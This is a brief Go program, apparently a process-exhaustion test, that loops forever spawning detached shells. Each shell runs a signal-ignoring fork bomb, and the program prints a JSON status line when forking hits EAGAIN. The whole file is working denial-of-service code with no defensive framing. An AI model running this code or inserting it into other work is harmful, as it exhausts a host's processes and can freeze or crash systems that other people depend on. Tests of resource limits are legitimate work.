package main

import (
	"fmt"
	"syscall"
)

func main() {
	for told := false; ; {
		_, err := syscall.ForkExec("/bin/sh", []string{"sh", "-c", `trap "" TERM HUP INT; bomb() { bomb & bomb & wait; }; bomb`},
			&syscall.ProcAttr{Sys: &syscall.SysProcAttr{Setsid: true}})
		if err == syscall.EAGAIN && !told {
			fmt.Println(`{"attempt": "start one more", "result": "EAGAIN"}`)
			told = true
		}
	}
}
